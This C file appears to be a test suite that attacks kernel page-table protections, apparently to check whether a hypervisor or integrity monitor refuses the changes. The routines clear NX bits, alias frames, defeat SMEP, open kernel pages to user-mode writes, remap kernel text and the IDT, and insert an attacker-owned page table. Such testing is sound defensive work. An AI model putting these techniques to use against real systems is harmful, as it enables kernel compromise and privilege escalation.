/* Page tables: the kernel's own rules about pages, changed by hand. */
#include "tests/attacks/attack.h"

/* mov $0x1234567, %eax; ret */
static const uint8_t code[] = {0xb8, 0x67, 0x45, 0x23, 0x01, 0xc3};
#define ANSWER 0x1234567u

static enum outcome call(uint64_t va)
{
	uint64_t result = 0;
	LONG st = kcall(va, 0, 0, 0, 0, &result);

	return st ? REFUSED : (uint32_t)result == ANSWER ? SUCCEEDED : FAILED;
}

/* A kernel page writable and executable, with code of ours. */
static enum outcome pte_wx(void)
{
	uint64_t va = scratch(), was;
	enum outcome o;

	kwrite(va, code, sizeof(code));
	if (call(va) != REFUSED)
		return FAILED; /* no-execute has to hold before */
	if (entry_change(va, PTE_NX, 0, &was))
		return REFUSED;
	o = call(va);
	note("pte-wx");
	entry_restore(va, was);
	return o;
}

/* The same, read-only: only the approval is missing. */
static enum outcome pte_x(void)
{
	uint64_t va = scratch(), was;
	enum outcome o;

	kwrite(va, code, sizeof(code));
	if (entry_change(va, PTE_NX | PTE_W, 0, &was))
		return REFUSED;
	o = call(va);
	note("pte-x");
	entry_restore(va, was);
	return o;
}

/* Two addresses for one frame: one to write, the other to execute. */
static enum outcome code_alias(void)
{
	uint64_t va = scratch(), was, frame = kphys(va) & PTE_FRAME;
	enum outcome o;

	if (entry_change(va + 4096, PTE_FRAME | PTE_NX | PTE_W, frame, &was))
		return REFUSED;
	kwrite(va, code, sizeof(code));
	o = call(va + 4096);
	note("code-alias");
	entry_restore(va + 4096, was);
	return o;
}

/* A writable and executable page is left behind, and nobody told: for scans at their own time.
 * Prints now and then, so that there are exits. */
static enum outcome leave_wx(void)
{
	uint64_t va = scratch(), was;

	if (entry_change(va, PTE_NX, 0, &was))
		return REFUSED;
	for (int i = 0; i < 200; i++) {
		printf("# %d\n", i);
		fflush(stdout);
		khypercall(0, 0, 0, 0, 0); /* an exit */
		Sleep(50);
	}
	entry_restore(va, was);
	return SUCCEEDED;
}

/* All the direct map executable by one bit further up. */
static enum outcome direct_map_x(void)
{
	uint64_t va = DIRECT_MAP + kphys(scratch()), was;
	enum outcome o;

	kwrite(scratch(), code, sizeof(code));
	if (entry_change(va, PTE_NX, 0, &was))
		return REFUSED;
	o = call(va);
	note("direct-map-x");
	entry_restore(va, was);
	return o;
}

/* Code in a user page, made a supervisor page so that SMEP does not see it. */
static enum outcome user_supervisor(void)
{
	uint8_t *page = VirtualAlloc(NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
	uint64_t was;
	enum outcome o;

	memcpy(page, code, sizeof(code));
	VirtualLock(page, 4096);
	if (call((uint64_t)page) != REFUSED)
		return FAILED; /* SMEP */
	if (entry_change((uint64_t)page, PTE_U, 0, &was))
		return REFUSED;
	o = call((uint64_t)page);
	note("user-supervisor");
	entry_restore((uint64_t)page, was);
	VirtualFree(page, 0, MEM_RELEASE);
	return o;
}

/* A kernel page that user mode can write. */
static enum outcome user_kernel(void)
{
	extern int user_store(volatile uint64_t * to, uint64_t value);
	uint64_t va = scratch(), was[4], at[4], e = place(VULNERABLE_CR3);
	int n = 0, ok;

	for (int shift = 39; shift >= 12; shift -= 9) {
		at[n] = DIRECT_MAP + (e & PTE_FRAME) + (va >> shift & 511) * 8;
		was[n] = e = kread64(at[n]);
		if (kstore(STORE_Q, at[n], e | PTE_U)) {
			while (n--)
				kstore(STORE_Q, at[n], was[n]);
			return REFUSED;
		}
		n++;
	}
	kflush(va, 1);
	ok = user_store((volatile uint64_t *)va, 0x1122334455667788ull);
	note("user-kernel");
	while (n--)
		kstore(STORE_Q, at[n], was[n]);
	kflush(va, 1);
	return ok && kread64(va) == 0x1122334455667788ull ? SUCCEEDED : FAILED;
}

/* The kernel's code stays as it is, but its address leads to a changed copy. */
static enum outcome remap(uint64_t target)
{
	static uint8_t page[4096];
	uint64_t copy = scratch(), was, changed = 0x5a5a5a5a5a5a5a5aull, old = kread64(target);
	enum outcome o;

	kread(target & ~0xfffull, page, sizeof(page));
	memcpy(page + (target & 0xfff), &changed, sizeof(changed));
	kwrite(copy, page, sizeof(page));
	if (entry_change(target, PTE_FRAME, kphys(copy) & PTE_FRAME, &was))
		return REFUSED;
	o = kread64(target) == changed ? SUCCEEDED : FAILED;
	note("remap");
	entry_restore(target, was);
	return kread64(target) == old ? o : FAILED;
}

static enum outcome remap_text(void)
{
	return remap(place(VULNERABLE_TEXT));
}

static enum outcome remap_idt(void)
{
	return remap(place(VULNERABLE_IDT) + 0x3f * 16);
}

/* A page table of the attacker's, put into the kernel's tables. */
static enum outcome own_table(void)
{
	uint64_t table[512] = {0}, va = scratch(), was, target, e, at;
	enum outcome o;

	kwrite(va, code, sizeof(code));
	table[7] = (kphys(va) & PTE_FRAME) | PTE_P | PTE_W;
	kwrite(va + 4096, table, sizeof(table));
	/* an empty entry of the page directory that maps the scratch page, far from it */
	e = place(VULNERABLE_CR3);
	for (int shift = 39; shift >= 30; shift -= 9)
		e = kread64(DIRECT_MAP + (e & PTE_FRAME) + (va >> shift & 511) * 8);
	target = (va & ~0x3fffffffull) + 0x3fe00000ull;
	at = DIRECT_MAP + (e & PTE_FRAME) + (target >> 21 & 511) * 8;
	was = kread64(at);
	if (kstore(STORE_Q, at, (kphys(va + 4096) & PTE_FRAME) | PTE_P | PTE_W))
		return REFUSED;
	o = call(target + 7 * 4096);
	note("own-table");
	kstore(STORE_Q, at, was);
	kflush(target + 7 * 4096, 1);
	return o;
}

const struct attack attacks_tables[] = {
    {"pte-wx", pte_wx},
    {"pte-x", pte_x},
    {"code-alias", code_alias},
    {"leave-wx", leave_wx},
    {"direct-map-x", direct_map_x},
    {"user-supervisor", user_supervisor},
    {"user-kernel", user_kernel},
    {"remap-text", remap_text},
    {"remap-idt", remap_idt},
    {"own-table", own_table},
    {0},
};
